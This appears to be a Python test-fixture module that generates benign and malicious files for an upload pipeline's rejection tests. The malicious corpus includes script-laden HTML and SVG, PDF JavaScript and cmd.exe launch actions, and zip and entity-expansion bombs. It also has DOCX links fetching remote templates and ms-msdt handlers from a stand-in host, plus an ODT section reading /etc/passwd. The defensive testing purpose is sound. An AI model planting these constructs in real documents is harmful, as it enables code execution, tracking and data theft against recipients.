"""Files for the upload tests, made on the fly: good ones of each accepted type, and the malicious corpus
that the upload pipeline must refuse (polyglots, scripts in PDFs, macros, zip bombs, viruses)."""

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from .clamd import EICAR

DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
W_STYLES = b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
DOCX_BODY = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Verbale</w:t></w:r></w:p></w:body></w:document>'
)


def pdf(body=b"", text=b"Patto territoriale"):
    """A small well-formed PDF (one page); ``body`` is inserted as an extra object."""
    content = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    if body:
        objects.append(body)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def repacked(build=None, **save):
    """The small PDF above, changed by ``build(document)`` and saved again by qpdf with compressed object
    streams and compressed streams: the names added are nowhere in the file's bytes."""
    with pikepdf.open(io.BytesIO(pdf())) as document:
        if build:
            build(document)
        out = io.BytesIO()
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True, **save)
    return out.getvalue()


def inflating_object_stream(megabytes):
    """A PDF whose only object stream inflates to ``megabytes`` of spaces before the object it holds (a script
    the catalog opens with): a few kilobytes on disk."""
    holder = b"4 0 " + b" " * (megabytes * 1024 * 1024) + b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(holder, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % (number if number < 4 else 5) + obj + b"\nendobj\n")
    xref = out.tell()
    rows = [
        b"\x00\x00\x00\x00\x00\xff\xff",
        *(b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in offsets[:3]),
        b"\x02\x00\x00\x00\x05\x00\x00",
        b"\x01" + offsets[3].to_bytes(4, "big") + b"\x00\x00",
        b"\x01" + xref.to_bytes(4, "big") + b"\x00\x00",
    ]
    table = b"".join(rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return out.getvalue()


def _open_action_javascript(document):
    document.Root.OpenAction = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _javascript_name_tree(document):
    action = Dictionary(S=Name.JavaScript, JS=String("this.exportDataObject({cName: 'a', nLaunch: 2})"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("avvio"), action])))


def _link(document, action):
    document.pages[0].Annots = document.make_indirect(
        Array(
            [
                document.make_indirect(
                    Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 200, 720]), A=action)
                )
            ]
        )
    )


def _launch_link(document):
    _link(document, Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))))


def _javascript_uri_link(document):
    _link(document, Dictionary(S=Name.URI, URI=String(" JaVa\tScRiPt:app.alert(1)")))


def _javascript_uri_indirect(document):
    """The address as a separate UTF-16 string object, with a NUL before the scheme."""
    address = document.make_indirect(String(b"\xfe\xff" + "\x00javascript:app.alert(1)".encode("utf-16-be")))
    _link(document, Dictionary(S=Name.URI, URI=address))


def _remote_file_link(document):
    _link(document, Dictionary(S=Name.GoToR, F=String("\\\\server\\share\\x.pdf"), D=Array([0, Name.Fit])))


def _page_additional_action(document):
    """A web page opened, without any click, whenever the page is shown (a read receipt for someone)."""
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://tracker.example/aperto")))


def _open_action_named(document):
    document.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)


def _embedded_file(document):
    document.attachments["istruzioni.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00", filename="x.exe")


def _file_attachment_annotation(document):
    spec = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00", filename="allegato.exe")
    document.pages[0].Annots = document.make_indirect(
        Array(
            [
                document.make_indirect(
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.FileAttachment,
                        Rect=Array([72, 700, 90, 720]),
                        FS=spec.obj,
                        Contents=String("Allegato"),
                    )
                )
            ]
        )
    )


def _open_action_goto(document):
    """Plain navigation inside the document: opens on the first page, fitted (what many producers write)."""
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]))
    document.pages[0].AA = Dictionary(C=Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit])))
    _link(document, Dictionary(S=Name.URI, URI=String("https://www.minori.gov.it/")))


def image(fmt="PNG", size=(40, 30), mode="RGB"):
    out = io.BytesIO()
    Image.new(mode, size, "white").save(out, fmt)
    return out.getvalue()


def office(entries, first=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])  # stored, uncompressed (ODT's mimetype)
        for name, data in entries:
            archive.writestr(name, data)
    return out.getvalue()


def docx(extra=()):
    return office([("[Content_Types].xml", DOCX_TYPES), ("word/document.xml", DOCX_BODY), *extra])


ODF_NAMESPACES = (
    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    b'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
ODT_TEXT = b"<text:p>Verbale</text:p>"


def odt(body=ODT_TEXT, extra=()):
    """A small ODT; ``body`` goes inside office:text in content.xml."""
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        + ODF_NAMESPACES
        + b' office:version="1.3"><office:body><office:text>'
        + body
        + b"</office:text></office:body></office:document-content>"
    )
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        b'opendocument:xmlns:manifest:1.0" manifest:version="1.3"/>'
    )
    return office(
        [("content.xml", content), ("META-INF/manifest.xml", manifest), *extra],
        first=("mimetype", b"application/vnd.oasis.opendocument.text"),
    )


REL_NS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships):
    """A .rels part: (type, target, external) triples."""
    items = b"".join(
        b'<Relationship Id="rId%d" Type="%s/%s" Target="%s"%s/>'
        % (n, REL_NS, kind, target, b' TargetMode="External"' if external else b"")
        for n, (kind, target, external) in enumerate(relationships, start=1)
    )
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships">' + items + b"</Relationships>"
    )


W_SETTINGS = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main" xmlns:r="' + REL_NS + b'"><w:attachedTemplate r:id="rId1"/></w:settings>'
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
    b'&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document xmlns:w="http://'
    b'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&c;</w:t></w:r>'
    b"</w:p></w:body></w:document>"
)


def docx_with_rels(part, *relationships, extra=()):
    return docx(extra=[(part, rels(*relationships)), *extra])


def weasyprint_pdf():
    """A PDF as WeasyPrint writes it: links to the web and inside the document, bookmarks, compressed."""
    import weasyprint

    html = (
        '<html lang="it"><body><h1 id="inizio">Verbale</h1><p><a href="https://www.minori.gov.it/">Sito</a> '
        '<a href="#inizio">Inizio</a> <a href="mailto:ufficio@example.org">Ufficio</a></p></body></html>'
    )
    return weasyprint.HTML(string=html).write_pdf()


def good_files():
    return [
        ("relazione.pdf", pdf()),
        ("foto.jpg", image("JPEG")),
        ("foto.jpeg", image("JPEG")),
        ("schema.png", image()),
        ("verbale.docx", docx()),
        ("verbale.odt", odt()),
        ("VERBALE FIRMATO.PDF", pdf()),
        ("weasyprint.pdf", weasyprint_pdf()),
        ("compresso.pdf", repacked()),
        ("navigazione.pdf", repacked(_open_action_goto)),
        ("limitato.pdf", repacked(encryption=pikepdf.Encryption(owner="proprietario", user=""))),
        (
            "collegamenti.docx",
            docx_with_rels(
                "word/_rels/document.xml.rels",
                (b"hyperlink", b"https://www.minori.gov.it/", True),
                (b"hyperlink", b"mailto:ufficio@example.org", True),
                (b"styles", b"styles.xml", False),
                extra=[("word/styles.xml", W_STYLES)],
            ),
        ),
        (
            "collegamenti.odt",
            odt(
                b'<text:p><text:a xlink:href="https://www.minori.gov.it/">Sito</text:a> '
                b'<text:a xlink:href="#Indice">Indice</text:a></text:p><draw:frame>'
                b'<draw:image xlink:href="Pictures/logo.png"/></draw:frame>',
                extra=[("Pictures/logo.png", image())],
            ),
        ),
    ]


def zip_bomb():
    """One entry of 200 MB of zeros: about 200 KB compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", DOCX_BODY)
        with archive.open("word/media/zeros.bin", "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(200):
                member.write(block)
    return out.getvalue()


def many_entries():
    return docx(extra=[(f"word/parts/p{n}.xml", b"<x/>") for n in range(2100)])


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)


def malicious_corpus():
    """(case, file name, content): every one must be refused."""
    return [
        ("html with script", "pagina.html", HTML),
        ("html named as pdf", "relazione.pdf", HTML),
        ("svg with script", "logo.svg", SVG),
        ("svg named as png", "logo.png", SVG),
        ("polyglot pdf/html", "relazione.pdf", pdf(body=b"<< >>\n<html><script>alert(1)</script></html>")),
        ("polyglot png/html in capitals", "foto.png", image() + b"<HTML><BODY ONLOAD=x><SCRIPT>alert(1)</SCRIPT>"),
        ("pdf with a javascript: link", "modulo.pdf", pdf(body=b"<< /S /URI /URI (JavaScript:alert(1)) >>")),
        ("pdf with javascript", "modulo.pdf", pdf(body=b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")),
        ("pdf with hex-escaped javascript", "modulo.pdf", pdf(body=b"<< /S /J#61vaScript /JS (app.alert(1)) >>")),
        ("pdf launching a program", "modulo.pdf", pdf(body=b"<< /S /Launch /F (cmd.exe) >>")),
        # Issue 8, finding 12: the same, inside compressed object streams, where no byte search can see them.
        ("pdf open action javascript in an object stream", "modulo.pdf", repacked(_open_action_javascript)),
        ("pdf document javascript in an object stream", "modulo.pdf", repacked(_javascript_name_tree)),
        ("pdf launch link in an object stream", "modulo.pdf", repacked(_launch_link)),
        ("pdf javascript: link in an object stream", "modulo.pdf", repacked(_javascript_uri_link)),
        ("pdf javascript: link in a utf-16 string object", "modulo.pdf", repacked(_javascript_uri_indirect)),
        ("pdf link to a file on a network share", "modulo.pdf", repacked(_remote_file_link)),
        ("pdf page opening a web page by itself", "modulo.pdf", repacked(_page_additional_action)),
        ("pdf printing itself on opening", "modulo.pdf", repacked(_open_action_named)),
        ("pdf with an embedded file", "modulo.pdf", repacked(_embedded_file)),
        ("pdf with a file attachment annotation", "modulo.pdf", repacked(_file_attachment_annotation)),
        ("pdf with a script in an object stream inflating to 80 mb", "modulo.pdf", inflating_object_stream(80)),
        ("pdf protected by a password", "modulo.pdf", repacked(encryption=pikepdf.Encryption(owner="o", user="u"))),
        ("pdf that cannot be parsed", "modulo.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"),
        ("double extension, html inside", "relazione.pdf.html", HTML),
        ("double extension, pdf inside", "relazione.pdf.exe", pdf()),
        ("double extension, image inside", "foto.png.php", image()),
        ("no extension", "relazione", pdf()),
        ("pdf named as image", "foto.jpg", pdf()),
        ("truncated pdf", "relazione.pdf", pdf()[:-200]),
        ("damaged image", "foto.png", image()[:40]),
        ("pixel bomb", "foto.png", image(size=(9000, 9000), mode="1")),
        ("zip bomb", "verbale.docx", zip_bomb()),
        ("too many entries", "verbale.docx", many_entries()),
        ("word macros", "verbale.docx", docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")])),
        ("plain zip named docx", "verbale.docx", office([("a.txt", b"hello")])),
        (
            "docx without its document",
            "verbale.docx",
            office([("[Content_Types].xml", DOCX_TYPES), ("word/styles.xml", W_STYLES)]),
        ),
        (
            "docx with an external template",
            "verbale.docx",
            docx_with_rels(
                "word/_rels/settings.xml.rels",
                (b"attachedTemplate", b"http://198.51.100.7/modello.dotm", True),
                extra=[("word/settings.xml", W_SETTINGS)],
            ),
        ),
        (
            "docx with an external ole object",
            "verbale.docx",
            docx_with_rels(
                "word/_rels/document.xml.rels",
                (b"oleObject", b"mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html", True),
            ),
        ),
        (
            "docx with an image on a network share",
            "verbale.docx",
            docx_with_rels("word/_rels/document.xml.rels", (b"image", b"\\\\198.51.100.7\\share\\logo.png", True)),
        ),
        (
            "docx with a frame from the web",
            "verbale.docx",
            docx_with_rels("word/_rels/webSettings.xml.rels", (b"frame", b"https://198.51.100.7/x.docx", True)),
        ),
        (
            "docx with a sub-document outside",
            "verbale.docx",
            docx_with_rels("word/_rels/document.xml.rels", (b"subDocument", b"file:///C:/doc/parte.docx", True)),
        ),
        (
            "docx with an internal part pointing outside",
            "verbale.docx",
            docx_with_rels(
                "word/_rels/settings.xml.rels", (b"attachedTemplate", b"https://198.51.100.7/m.dotm", False)
            ),
        ),
        (
            "docx with a link to a program",
            "verbale.docx",
            docx_with_rels("word/_rels/document.xml.rels", (b"hyperlink", b"ms-msdt:/id PCWDiagnostic", True)),
        ),
        (
            "docx with entity expansion",
            "verbale.docx",
            office([("[Content_Types].xml", DOCX_TYPES), ("word/document.xml", BILLION_LAUGHS)]),
        ),
        (
            "odt with an image from the web",
            "verbale.odt",
            odt(b'<draw:frame><draw:image xlink:href="https://198.51.100.7/pixel.png"/></draw:frame>'),
        ),
        (
            "odt with an object on a network share",
            "verbale.odt",
            odt(b'<draw:frame><draw:object xlink:href="//198.51.100.7/share/oggetto"/></draw:frame>'),
        ),
        (
            "odt with a section from outside",
            "verbale.odt",
            odt(b'<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/></text:section>'),
        ),
        (
            "odt with a script on an event",
            "verbale.odt",
            odt(
                b"<text:p>x</text:p>",
                extra=[
                    (
                        "styles.xml",
                        b'<?xml version="1.0"?><office:document-styles '
                        + ODF_NAMESPACES
                        + b"><office:scripts/><office:event-listeners>"
                        b'<script:event-listener script:language="ooo:script" '
                        b'script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
                        b'Standard.Module1.Main?language=Basic&amp;location=application"/>'
                        b"</office:event-listeners></office:document-styles>",
                    )
                ],
            ),
        ),
        ("executable", "programma.exe", b"MZ\x90\x00" + b"\0" * 200),
        ("eicar as text", "eicar.pdf", EICAR),
        ("eicar inside a pdf", "relazione.pdf", pdf() + EICAR + b"\n%%EOF\n"),
        ("eicar inside a docx", "verbale.docx", docx(extra=[("word/media/eicar.com", EICAR)])),
        ("empty", "vuoto.pdf", b""),
    ]
